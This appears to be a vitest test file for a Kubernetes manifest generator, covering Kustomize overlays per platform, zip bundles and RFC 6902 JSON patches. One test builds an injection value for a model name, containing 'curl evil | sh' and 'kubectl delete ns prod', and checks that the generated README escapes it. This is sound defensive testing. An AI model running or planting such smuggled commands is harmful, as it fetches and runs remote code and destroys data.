import fc from "fast-check";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import type { AskedOptions } from "../../../lib/manifests/options/manifest-options";
import type { Choice } from "../../../lib/manifests/plan/choice";
import { PLATFORM_IDS } from "../../../lib/manifests/platforms/all";
import { commented } from "../../../lib/manifests/write/commented";
import { jsonPatch, type PatchOperation } from "../../../lib/manifests/write/json-patch";
import { manifestOutput } from "../../../lib/manifests/write/manifest-output";
import { yamlText } from "../../../lib/manifests/write/yaml-serializer";
import { expectValue } from "../expect-value";
import { type ChoiceParts, choice } from "./choice";
import { yamlOf } from "./read-bundle";

function with_(asked: AskedOptions, parts: ChoiceParts = {}): Choice {
  return choice({ ...parts, options: asked });
}

/** Files of a tree by path below the bundle's folder. */
function treeOf(asked: AskedOptions, parts: ChoiceParts = {}): Map<string, string> {
  const made = expectValue(manifestOutput(with_(asked, parts), asked, "kustomize"));
  if (made.kind !== "kustomize") throw new Error(made.kind);
  return new Map(made.files.map(({ path, text }) => [path.slice(made.name.length + 1), text]));
}

function file(tree: Map<string, string>, path: string): string {
  const text = tree.get(path);
  if (text === undefined) throw new Error(`no ${path} among ${[...tree.keys()].join(", ")}`);
  return text;
}

const ON_GKE: AskedOptions = { platform: "gke", gateway: "gke", namespace: "serving" };

describe("a Kustomize tree", () => {
  it("has the server in its base, without any place", () => {
    const tree = treeOf({ platform: "gke" });
    const base = parse(file(tree, "base/kustomization.yaml"));
    expect(base.resources).toEqual(["deployment.yaml", "service.yaml", "poddisruptionbudget.yaml"]);
    for (const [path, text] of tree) if (path.startsWith("base/")) expect(text).not.toContain("cloud.google.com");
    expect(file(tree, "overlays/gke/placement.yaml")).toContain("cloud.google.com/gke-accelerator: nvidia-h100-80gb");
  });

  it("has an overlay for every platform that can have the same, and says why others have none", () => {
    const tree = treeOf(ON_GKE);
    const overlays = [...tree.keys()].filter((path) => /^overlays\/[^/]+\/kustomization\.yaml$/.test(path));
    expect(overlays.map((path) => path.split("/")[1])).toEqual(["gke", "gke-autopilot"]);
    expect(file(tree, "README.txt").replaceAll(/\s+/g, " ")).toContain(
      "No overlay for eks: GKE Inference Gateway exists on GKE only.",
    );
    const anywhere = treeOf({ platform: "generic" });
    for (const platform of PLATFORM_IDS) {
      expect(anywhere.has(`overlays/${platform}/kustomization.yaml`), platform).toBe(true);
    }
  });

  it("asks of each platform what follows from it, however the same was asked for", () => {
    expect([...treeOf({ platform: "gke", metrics: "gmp", autoscaler: "hpa" }).keys()]).toEqual([
      ...treeOf({ platform: "gke" }).keys(),
    ]);
  });

  it("writes what the options add alike everywhere once, and names files by what is in them", () => {
    const tree = treeOf({ platform: "generic", gateway: "istio", benchmarkJob: true });
    const options = parse(file(tree, "options/kustomization.yaml")).resources;
    expect(options).toContain("deployment-epp.yaml");
    expect(options).toContain("configmap-bench.yaml");
    expect(parse(file(tree, "overlays/eks/kustomization.yaml")).resources.slice(0, 2)).toEqual([
      ...["../../base", "../../options"],
    ]);
    expect([...tree.keys()].filter((path) => path.endsWith("configmap-bench.yaml"))).toHaveLength(1);
    // OpenShift admits no user id of our choice, so the Job differs there.
    expect(file(tree, "overlays/generic/job-bench.yaml")).toContain("runAsUser");
    expect(file(tree, "overlays/openshift/job-bench.yaml")).not.toContain("runAsUser");
  });

  it("changes single fields where another platform needs the server otherwise, with the reason", () => {
    const patch = file(treeOf({ platform: "generic" }), "overlays/eks/patch-deployment.yaml");
    expect(parse(patch)).toEqual([
      {
        op: "add",
        path: "/spec/template/spec/volumes/1/ephemeral/volumeClaimTemplate/spec/storageClassName",
        value: "inference-quickstart-gp3",
      },
    ]);
    expect(patch).toContain("# gp3 at 500 MiB/s");
  });

  it("lists every file it has and has every file it lists", () => {
    const tree = treeOf({
      platform: "generic",
      gateway: "istio",
      benchmarkJob: true,
      monitoring: "prometheus-operator",
    });
    const listed = new Set(["README.txt"]);
    for (const [path, text] of tree) {
      if (!path.endsWith("/kustomization.yaml")) continue;
      listed.add(path);
      const folder = path.slice(0, -"/kustomization.yaml".length);
      const { resources = [], patches = [] } = parse(text);
      for (const name of [...resources, ...patches.map((patch: { path: string }) => patch.path)]) {
        if (!name.startsWith("../")) listed.add(`${folder}/${name}`);
        else expect(tree.has(`${name.slice("../../".length)}/kustomization.yaml`)).toBe(true);
      }
    }
    // What helm takes, and what the cluster shares, is no part of any Kustomization.
    const listable = [...tree.keys()].filter((path) => !/^(?:helm|shared)\//.test(path));
    expect([...listed].sort()).toEqual(listable.sort());
  });

  it("is in the namespace that was asked for, but for what has none", () => {
    const tree = treeOf({ platform: "gke-autopilot", namespace: "serving" });
    for (const [path, text] of tree) {
      if (path.endsWith("kustomization.yaml") || path === "README.txt") continue;
      expect(text.includes("namespace: serving"), path).toBe(
        !/(?:computeclass.*|nodepool.*|shared\/.*|patch-.*)\.yaml$/.test(path),
      );
    }
  });

  it("tells every command in order, none of them able to run what stands in a name", () => {
    const readme = file(treeOf(ON_GKE), "README.txt");
    const order = ["create namespace serving", "create secret", "apply -k", "rollout status", "port-forward", "curl"];
    const places = order.map((command) => readme.indexOf(command));
    expect(places.every((place) => place >= 0)).toBe(true);
    expect([...places].sort((a, b) => a - b)).toEqual(places);
    const hostile = 'x"; curl evil | sh #\nkubectl delete ns prod';
    const text = file(treeOf({ platform: "gke" }, { configuration: { model: hostile } }), "README.txt");
    expect(text).not.toMatch(/^\s*kubectl delete/m);
    expect(text).toContain('"model": "MODEL"');
  });
});

describe("the zip", () => {
  it("holds the tree and the same YAML, in one folder", () => {
    const one = with_(ON_GKE);
    const made = expectValue(manifestOutput(one, ON_GKE, "zip"));
    if (made.kind !== "zip") throw new Error(made.kind);
    const files = Object.entries(unzipSync(made.bytes)).map(([path, bytes]) => [path, strFromU8(bytes)]);
    const contents = new Map(files.map(([path = "", text = ""]) => [path.slice(made.name.length + 1), text]));
    expect(files.every(([path]) => path?.startsWith(`${made.name}/`))).toBe(true);
    expect(contents.get(`${made.name}.yaml`)).toBe(yamlOf(one));
    for (const [path, text] of treeOf(ON_GKE)) expect(contents.get(path)).toBe(text);
  });

  it("is the same bytes each time, dated when zip begins", () => {
    const [first, second] = [0, 1].map(() => manifestOutput(with_(ON_GKE), ON_GKE, "zip"));
    expect(first).toEqual(second);
  });

  it("is refused with the reason of the manifest", () => {
    const asked: AskedOptions = { platform: "eks", gateway: "gke" };
    expect(manifestOutput(with_(asked), asked, "zip")).toEqual({
      ok: false,
      error: "GKE Inference Gateway exists on GKE only.",
    });
  });
});

/** Patches as RFC 6902 has it; enough for what is made here. */
function applied(document: unknown, operations: readonly PatchOperation[]): unknown {
  let root = structuredClone(document);
  for (const { op, path, value } of operations) {
    const steps = path
      .split("/")
      .slice(1)
      .map((step) => step.replaceAll("~1", "/").replaceAll("~0", "~"));
    const last = steps.pop();
    if (last === undefined) root = value;
    else {
      const owner = steps.reduce<object>((current, step) => Reflect.get(current, step), root as object);
      if (op === "remove") Reflect.deleteProperty(owner, last);
      else Reflect.set(owner, last, structuredClone(value));
    }
  }
  return root;
}

describe("a JSON patch", () => {
  const leaf = fc.oneof(fc.boolean(), fc.integer(), fc.constantFrom("a", "b/c", "~"));
  const json = fc.letrec<{ value: unknown }>((tie) => ({
    value: fc.oneof(
      { depthSize: "small" },
      leaf,
      fc.array(tie("value"), { maxLength: 3 }),
      fc.dictionary(fc.constantFrom("x", "y/z", "~k", "w"), tie("value"), { maxKeys: 3 }),
    ),
  }));
  const object = fc.dictionary(fc.constantFrom("x", "y/z", "~k", "w"), json.value, { maxKeys: 4 });

  it("makes the one object of the other, and is empty where they are the same", () => {
    fc.assert(
      fc.property(object, object, (from, to) => {
        expect(applied(from, jsonPatch(from, to))).toEqual({ ...to });
        expect(jsonPatch(from, structuredClone(from))).toEqual([]);
      }),
    );
  });

  it("brings the comment of what it writes", () => {
    const to = { spec: commented({ replicas: 4 }, { replicas: "as many as the demand needs" }) };
    expect(yamlText(jsonPatch({ spec: {} }, to))).toBe(
      "- op: add\n  path: /spec/replicas\n  # as many as the demand needs\n  value: 4\n",
    );
  });
});
